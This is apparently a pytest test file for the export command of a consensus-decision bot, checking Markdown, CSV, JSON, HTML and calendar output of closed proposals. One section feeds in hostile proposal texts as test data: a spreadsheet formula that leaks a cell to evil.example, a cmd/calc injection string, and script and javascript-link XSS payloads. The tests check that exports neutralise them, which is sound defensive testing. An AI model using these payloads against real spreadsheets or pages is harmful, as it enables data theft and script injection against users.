"""`circlebot export`: the decision log as Markdown, CSV and JSON."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from bot.config import Config, load_config
from bot.domain.clock import ManualClock
from bot.domain.events import CommandEvent, ReactionEvent
from bot.handlers.core import Core
from bot.queries.export import CSV_COLUMNS, ExportError, export_decisions
from bot.wiring.cli import main_export
from storage import open_repository
from storage.repository import Repository
from tests.cli import export_scenario as scenario

ROOT = Path(__file__).resolve().parents[2]

TRICKY = 'Adopt "the" visiting policy, revised;\nsecond line, with a comma | and a pipe'

CONFIG = """\
[storage]
url = "{url}"

[[circles]]
name = "council"
timezone = "America/Los_Angeles"
sides = ["milpa", "vera"]
admins = ["ben"]
[[circles.members]]
name = "ana"
side = "milpa"
[[circles.members]]
name = "ben"
side = "milpa"
[[circles.members]]
name = "mo"
side = "milpa"
role = "member"
[[circles.members]]
name = "cy"
side = "vera"
[[circles.members]]
name = "dee"
side = "vera"

[[circles]]
name = "garden"
sides = ["a", "b"]
[[circles.members]]
name = "x"
side = "a"
[[circles.members]]
name = "z"
side = "b"
"""


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 1, day, hour, minute, tzinfo=UTC)


@dataclass
class Log:
    config: Config
    config_path: Path
    repo: Repository
    core: Core


class Driver:
    def __init__(self, core: Core, clock: ManualClock) -> None:
        self.core = core
        self.clock = clock
        self.count = 0

    def _id(self) -> str:
        self.count += 1
        return f"t{self.count:04d}"

    def command(self, when: datetime, user: str, text: str, circle: str = "council") -> str:
        self.clock.set(when)
        self.core.advance()
        [reply] = self.core.handle(CommandEvent("test", self._id(), circle, user, text, when))
        assert reply.ok, reply.text
        return reply.text

    def react(
        self, when: datetime, pid: int, user: str, emoji: str, circle: str = "council"
    ) -> None:
        self.clock.set(when)
        self.core.advance()
        self.core.handle(
            ReactionEvent("test", self._id(), circle, user, emoji, True, proposal_id=pid, at=when)
        )


def _bot(tmp_path: Path, db_url: str) -> tuple[Log, Driver]:
    """The config's circles on a fresh database, and a driver for them."""
    path = tmp_path / "circlebot.toml"
    path.write_text(CONFIG.format(url=db_url), encoding="utf-8")
    config = load_config(path)
    repo = open_repository(config.storage.url)
    clock = ManualClock(at(5, 10))
    core = Core(repo, config.circles, clock)
    core.start()
    return Log(config, path, repo, core), Driver(core, clock)


@pytest.fixture
def log(tmp_path: Path, db_url: str) -> Iterator[Log]:
    """Five decisions in two circles, and one proposal still open."""
    log, d = _bot(tmp_path, db_url)
    # 1: passes early with a concern and a stand-aside, review in 6 months
    d.command(at(5, 10), "ana", f"propose {TRICKY} by 3d review 6mo")
    # 2: amended, then blocked at its deadline
    d.command(at(5, 10, 5), "ana", "propose Meet on Saturdays by 1d")
    # 3: nobody from vera answers: no quorum at its deadline
    d.command(at(5, 10, 10), "cy", "propose Paint the office green by 2d")
    # 4: withdrawn
    d.command(at(5, 10, 15), "ana", "propose Buy a van")
    # 5: in the garden circle, passes
    d.command(at(5, 10, 20), "x", "propose Plant tomatoes", circle="garden")
    # 6: still open: not a decision
    d.command(at(5, 10, 25), "ben", "propose Open question by 30d")

    d.react(at(5, 11), 1, "ben", "thinking_face")
    d.react(at(5, 12), 1, "ana", "+1")
    d.react(at(5, 12, 30), 1, "mo", "raised_hand")  # a voice
    d.react(at(5, 13), 1, "cy", "👍🏽")
    d.react(at(5, 13, 30), 1, "dee", "neutral_face")  # passes here

    d.react(at(5, 14), 2, "dee", "raised_hand")
    d.command(at(5, 15), "ana", "amend 2 Meet on Saturday mornings")
    for minute, name in enumerate(("ana", "ben", "cy")):
        d.react(at(5, 16, minute), 2, name, "+1")
    d.react(at(5, 17), 2, "dee", "octagonal_sign")

    d.react(at(5, 18), 3, "ana", "+1")
    d.react(at(5, 18, 1), 3, "ben", "+1")

    d.command(at(5, 19), "ana", "withdraw 4")

    d.react(at(5, 20), 5, "x", "+1", circle="garden")
    d.react(at(5, 21), 5, "z", "+1", circle="garden")

    d.clock.set(at(10, 0))
    d.core.advance()  # 2 and 3 reach their deadlines
    yield log
    log.repo.engine.dispose()


ORDER = [1, 4, 5, 2, 3]  # by the time each was decided


def test_json_lists_every_decision_oldest_first_with_tallies_and_history(log: Log) -> None:
    data: list[dict[str, Any]] = json.loads(export_decisions(log.repo, log.config.circles, "json"))[
        "decisions"
    ]
    assert [d["id"] for d in data] == ORDER
    by_id = {d["id"]: d for d in data}
    first = by_id[1]
    assert first["status"] == "passed"
    assert first["circle"] == "council"
    assert first["text"] == TRICKY
    assert first["author"] == "ana"
    assert first["opened_at"] == "2026-01-05T10:00:00Z"
    assert first["deadline"] == "2026-01-08T10:00:00Z"
    assert first["decided_at"] == "2026-01-05T13:30:00Z"
    assert first["round"] == 1
    assert first["sides"]["milpa"]["consent"] == 1
    assert first["sides"]["milpa"]["concern"] == 1
    assert first["sides"]["vera"]["stand_aside"] == 1
    assert first["sides"]["vera"]["consents"] is True
    assert first["sides"]["vera"]["names"]["stand_aside"] == ["dee"]
    assert first["tally"] == "milpa 2/2 ✓ · vera 1/2 ✓"
    assert first["concerns"] == ["ben"]
    assert first["standing_aside"] == ["dee"]
    assert first["objectors"] == []
    assert first["voices"] == {"mo": "object"}
    assert first["review"] == "6mo"
    assert first["review_at"] == "2026-07-05T13:30:00Z"

    blocked = by_id[2]
    assert (blocked["status"], blocked["round"]) == ("blocked", 2)
    assert blocked["decided_at"] == blocked["deadline"] == "2026-01-06T10:05:00Z"
    assert blocked["text"] == "Meet on Saturday mornings"
    assert blocked["objectors"] == ["dee"]
    kinds = [row["kind"] for row in blocked["history"]]
    assert kinds[0] == "propose" and kinds[-1] == "outcome"
    assert "amend" in kinds
    amend = next(row for row in blocked["history"] if row["kind"] == "amend")
    assert amend["detail"]["previous"] == "Meet on Saturdays"
    assert amend["round"] == 2
    reactions = [row for row in blocked["history"] if row["kind"] == "reaction"]
    first_reaction = reactions[0]
    assert (first_reaction["round"], first_reaction["member"]) == (1, "dee")
    assert first_reaction["emoji"] == "raised_hand"
    assert reactions[0]["source"] == {"platform": "test", "event_id": "t0012"}
    assert by_id[3]["status"] == "no_quorum"
    assert by_id[3]["sides"]["vera"]["quorum"] is False
    assert by_id[4]["status"] == "withdrawn"
    assert by_id[4]["withdrawn_by"] == "ana"
    assert first["withdrawn_by"] is None
    assert by_id[5]["circle"] == "garden"

    def stamps(value: Any) -> Iterator[str]:
        if isinstance(value, dict):
            for key, item in value.items():
                if key in ("at", "opened_at", "deadline", "decided_at", "review_at") and item:
                    yield item
                yield from stamps(item)
        elif isinstance(value, list):
            for item in value:
                yield from stamps(item)

    found = list(stamps(data))
    assert len(found) > 30
    assert all(s.endswith("Z") and len(s) == 20 for s in found)


def test_the_exported_tallies_are_the_cores(log: Log) -> None:
    data = json.loads(export_decisions(log.repo, log.config.circles, "json"))["decisions"]
    for decision in data:
        state = log.core.state(decision["id"])
        assert decision["status"] == state.proposal.status
        for side in state.result.sides:
            exported = dict(decision["sides"][side.side])
            exported.pop("names")
            exported.pop("needed")
            assert exported == side.to_json()


def test_csv_has_one_row_per_decision_and_round_trips(log: Log) -> None:
    text = export_decisions(log.repo, log.config.circles, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [int(r["id"]) for r in records] == ORDER
    first = records[0]
    assert first["text"] == TRICKY
    assert first["status"] == "passed"
    assert first["tally"] == "milpa 2/2 ✓ · vera 1/2 ✓"
    assert first["sides_consenting"] == "milpa, vera"
    assert first["concerns"] == "ben"
    assert first["standing_aside"] == "dee"
    assert first["decided_at"] == "2026-01-05T13:30:00Z"
    blocked = next(r for r in records if r["id"] == "2")
    assert blocked["objectors"] == "dee"
    assert blocked["sides_not_consenting"] == "vera"
    assert blocked["round"] == "2"


def test_markdown_has_a_heading_per_circle_and_the_per_side_tally(log: Log) -> None:
    text = export_decisions(log.repo, log.config.circles, "md")
    assert text.startswith("# Decision log\n")
    assert "## Circle council" in text and "## Circle garden" in text
    assert text.index("## Circle council") < text.index("## Circle garden")
    assert "### ✅ Proposal #1 passed (round 1)" in text
    assert "### ✋ Proposal #2 is blocked (round 2)" in text
    assert "### ↩️ Proposal #4 was withdrawn" in text
    assert "- **Tally:** milpa 2/2 ✓ · vera 1/2 ✓" in text
    assert "| Side | Leaders | Answered | Consent | Concern | Stand aside | Object |" in text
    assert "| vera | 2 | 2 | 1 | 0 | 1 | 0 | yes |" in text
    assert '> Adopt "the" visiting policy, revised;\n> second line' in text
    assert "- **Objected:** dee" in text
    assert "- **Withdrawn by:** ana" in text
    assert "- **Stood aside:** dee" in text
    assert "- **Consented with a concern:** ben" in text
    assert "Mon, Jan 5, 2026, 5:30\u202fAM PST" in text  # decided, in the circle's time zone
    assert "- **Review:** 6mo (Sun, Jul 5, 2026, 6:30\u202fAM PDT)" in text
    assert "Open question" not in text  # still open: not a decision
    council = text[: text.index("## Circle garden")]
    assert council.index("#1 passed") < council.index("#4 was") < council.index("#2 is")


def test_one_circle_only(log: Log) -> None:
    data = json.loads(export_decisions(log.repo, log.config.circles, "json", circle="garden"))[
        "decisions"
    ]
    assert [d["id"] for d in data] == [5]
    text = export_decisions(log.repo, log.config.circles, "md", circle="garden")
    assert "## Circle garden" in text and "council" not in text
    with pytest.raises(ExportError, match="no circle 'nowhere'; circles: council, garden"):
        export_decisions(log.repo, log.config.circles, "csv", circle="nowhere")


def test_exporting_changes_nothing_in_the_database(log: Log) -> None:
    with log.repo.transaction() as tx:
        before = (tx.history(), [tx.members(cid) for cid in tx.circle_names()])
    # A config that has changed since the bot last started: export must not sync it.
    changed = [
        spec.__class__(**{**spec.__dict__, "members": spec.members[:-1]})
        for spec in log.config.circles
    ]
    for fmt in ("md", "csv", "json"):
        export_decisions(log.repo, changed, fmt)
    with log.repo.transaction() as tx:
        after = (tx.history(), [tx.members(cid) for cid in tx.circle_names()])
    assert after == before


def test_an_empty_log(tmp_path: Path) -> None:
    repo = open_repository(f"sqlite:///{tmp_path}/empty.db")
    try:
        assert json.loads(export_decisions(repo, [], "json"))["decisions"] == []
        assert export_decisions(repo, [], "csv").splitlines() == [",".join(CSV_COLUMNS)]
        assert "No decisions recorded yet." in export_decisions(repo, [], "md")
    finally:
        repo.engine.dispose()


# --------------------------------------------------------------------------- main_export


def test_main_export_writes_a_file_or_stdout(
    log: Log, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "log.csv"
    assert main_export(str(log.config_path), "csv", str(out), None) == 0
    assert capsys.readouterr() == ("", "")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert len(rows) == 1 + len(ORDER)
    assert rows[1][CSV_COLUMNS.index("text")] == TRICKY

    assert main_export(str(log.config_path), "json", None, "council") == 0
    stdout, stderr = capsys.readouterr()
    assert [d["id"] for d in json.loads(stdout)["decisions"]] == [1, 4, 2, 3]
    assert stderr == ""


def test_main_export_errors_exit_2(
    log: Log, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main_export(str(tmp_path / "missing.toml"), "md", None, None) == 2
    assert "missing.toml: no such file" in capsys.readouterr().err

    assert main_export(str(log.config_path), "md", None, "nowhere") == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.startswith("circlebot: there is no circle 'nowhere'")

    assert main_export(str(log.config_path), "md", str(tmp_path / "no" / "dir.md"), None) == 2
    assert "cannot write" in capsys.readouterr().err


def test_main_export_refuses_a_sqlite_file_that_does_not_exist(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "never.db"
    path = tmp_path / "c.toml"
    path.write_text(CONFIG.format(url=f"sqlite:///{db}"), encoding="utf-8")
    assert main_export(str(path), "md", None, None) == 2
    assert f"there is no database at {db}" in capsys.readouterr().err
    assert not db.exists()

    bad = tmp_path / "bad.toml"
    bad.write_text(CONFIG.format(url="mysql://nobody@localhost/x"), encoding="utf-8")
    assert main_export(str(bad), "md", None, None) == 2
    assert "is not supported" in capsys.readouterr().err


def test_the_cli_exports(log: Log, tmp_path: Path) -> None:
    out = tmp_path / "log.md"
    done = subprocess.run(
        [
            *(sys.executable, "-m", "bot.wiring.cli", "export", "--config", str(log.config_path)),
            *("--format", "md", "--output", str(out), "--circle", "council"),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == ""
    text = out.read_text(encoding="utf-8")
    assert "## Circle council" in text and "garden" not in text


# --------------------------------------------------------------------------- hostile texts

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HTML = "<img src=x onerror=alert(1)> <script>alert(2)</script> [x](javascript:alert(3))"


@pytest.fixture
def hostile(tmp_path: Path, db_url: str) -> Iterator[Log]:
    """Closed proposals whose texts attack spreadsheets and Markdown renderers."""
    log, d = _bot(tmp_path, db_url)
    d.command(at(5, 10), "ana", f"propose {FORMULA}")
    d.command(at(5, 10, 1), "ana", "propose -2+3+cmd|' /C calc'!A0")
    d.command(at(5, 10, 2), "ana", "propose @SUM(1+1)")
    d.command(at(5, 10, 3), "ana", f"propose {HTML}\n# not a heading\n| not | a table |")
    for pid in (1, 2, 3, 4):
        d.command(at(5, 11, pid), "ana", f"withdraw {pid}")
    yield log
    log.repo.engine.dispose()


def test_csv_cells_never_start_a_formula(hostile: Log) -> None:
    text = export_decisions(hostile.repo, hostile.config.circles, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    texts = [dict(zip(rows[0], row, strict=True))["text"] for row in rows[1:]]
    assert texts[:3] == [f"'{FORMULA}", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_markdown_shows_html_and_links_as_text(hostile: Log) -> None:
    text = export_decisions(hostile.repo, hostile.config.circles, "md")
    for active in ("<img", "<script", "](javascript", "\n> # not", "\n> | not"):
        assert active not in text
    assert "&lt;img src=x onerror=alert\\(1\\)&gt;" in text
    assert "\\[x\\]\\(javascript:alert\\(3\\)\\)" in text
    assert "> \\# not a heading" in text


def test_json_keeps_hostile_texts_as_data(hostile: Log) -> None:
    data = json.loads(export_decisions(hostile.repo, hostile.config.circles, "json"))["decisions"]
    assert [d["text"] for d in data][:3] == [FORMULA, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
    assert data[3]["text"].startswith(HTML)


# ------------------------------------------------------------- close, outcome, proxies


@pytest.fixture
def partnership(tmp_path: Path) -> Iterator[scenario.Log]:
    """Statements, a close, a proxy: see tests/cli/export_scenario.py."""
    made = scenario.build(tmp_path / "partnership.db")
    yield made
    made.repo.engine.dispose()


def test_json_has_statements_who_closed_and_proxies(partnership: scenario.Log) -> None:
    data = json.loads(export_decisions(partnership.repo, partnership.specs, "json"))["decisions"]
    by_id = {d["id"]: d for d in data}
    keys = list(by_id[1])
    assert keys[-5:] == ["statement", "closed_by", "proxied", "statements", "reasons"]
    assert keys.index("history") == len(keys) - 6  # the keys before are kept, in order
    first = by_id[1]
    assert first["statement"] == scenario.STATEMENTS[1]
    assert [v["text"] for v in first["statements"]] == list(scenario.STATEMENTS)
    assert [v["by"] for v in first["statements"]] == ["ana", "ana"]
    assert all(v["at"].endswith("Z") for v in first["statements"])
    assert first["closed_by"] is None and first["proxied"] == {}
    blocked = by_id[2]
    assert (blocked["status"], blocked["closed_by"]) == ("blocked", "cy")
    assert blocked["statement"] == scenario.HOSTILE_STATEMENT
    outcome = [row for row in blocked["history"] if row["kind"] == "outcome"]
    assert outcome[0]["detail"] == {"status": "blocked", "closed_by": "cy"}
    proxied = by_id[3]
    assert proxied["proxied"] == {"ana": "ben"}
    assert proxied["sides"]["milpa"]["names"]["consent"] == ["ana", "ben"]
    assert proxied["statement"] is None and proxied["statements"] == []
    assert [row["detail"] for row in proxied["history"] if row["kind"] == "proxy"] == [
        {"proxy": "ben"}
    ]


def test_csv_appends_statement_closed_by_and_proxied(partnership: scenario.Log) -> None:
    text = export_decisions(partnership.repo, partnership.specs, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][-4:] == ["statement", "closed_by", "proxied", "reasons"]
    assert rows[0][:19] == list(CSV_COLUMNS[:19])  # the columns before are kept, in order
    records = {r["id"]: r for r in (dict(zip(rows[0], row, strict=True)) for row in rows[1:])}
    assert records["1"]["statement"] == scenario.STATEMENTS[1]
    assert records["2"]["closed_by"] == "cy"
    assert records["3"]["proxied"] == "ana:ben"
    assert records["4"]["statement"] == records["4"]["closed_by"] == records["4"]["proxied"] == ""


def test_markdown_shows_the_statement_its_versions_the_close_and_proxies(
    partnership: scenario.Log,
) -> None:
    text = export_decisions(partnership.repo, partnership.specs, "md")
    first = text[text.index("### ✅ Proposal #1") : text.index("### ✋ Proposal #2")]
    assert "**Outcome statement** (ana, Mon, Jan 5, 2026, 11:45\u202fAM PST):" in first
    assert f"> {scenario.STATEMENTS[1]}" in first
    assert "Earlier versions of the outcome statement:" in first
    assert f"- Mon, Jan 5, 2026, 11:40\u202fAM PST, ana: {scenario.STATEMENTS[0]}" in first
    second = text[text.index("### ✋ Proposal #2") : text.index("### ✅ Proposal #3")]
    assert "- **Closed early by:** cy" in second
    assert "> &lt;img src=x onerror=" in second and "<img" not in text
    assert "Earlier versions" not in second
    third = text[text.index("### ✅ Proposal #3") :]
    assert "- **Answered by a proxy:** ben (for ana)" in third
    assert "Closed early by" not in first + third


def test_a_proxied_objection_is_named_for_whom_it_counts(tmp_path: Path) -> None:
    log = scenario.build(tmp_path / "p.db")
    try:
        pid = log.propose("ben", "Close the office in August by 1d")
        log.react("ben", "raised_hand", pid)  # ana is still away: it counts for her too
        log.at(days=2)
        text = export_decisions(log.repo, log.specs, "md")
    finally:
        log.repo.engine.dispose()
    block = text[text.index(f"### ✋ Proposal #{pid}") :]
    assert "- **Objected:** ben (for ana), ben" in block


def test_csv_neutralises_a_statement_that_starts_a_formula(log: Log) -> None:
    [reply] = log.core.handle(
        CommandEvent("test", "stmt1", "council", "ana", f"outcome 1 {FORMULA}", at(11, 0))
    )
    assert reply.ok, reply.text
    text = export_decisions(log.repo, log.config.circles, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["statement"] == f"'{FORMULA}"
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell


def test_main_export_writes_html_and_ics(
    log: Log, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    page = tmp_path / "log.html"
    assert main_export(str(log.config_path), "html", str(page), "council", "es") == 0
    text = page.read_text(encoding="utf-8")
    assert text.startswith('<!DOCTYPE html>\n<html lang="es">')
    assert 'id="decision-1"' in text and 'id="decision-5"' not in text  # garden's
    assert main_export(str(log.config_path), "ics", None, None) == 0
    stdout, stderr = capsys.readouterr()
    assert stdout.startswith("BEGIN:VCALENDAR") and stderr == ""
    assert "UID:proposal-6-deadline." in stdout
    assert main_export(str(log.config_path), "pdf", None, None) == 2
    assert "unknown format 'pdf'; use md, csv, json, html, ics" in capsys.readouterr().err
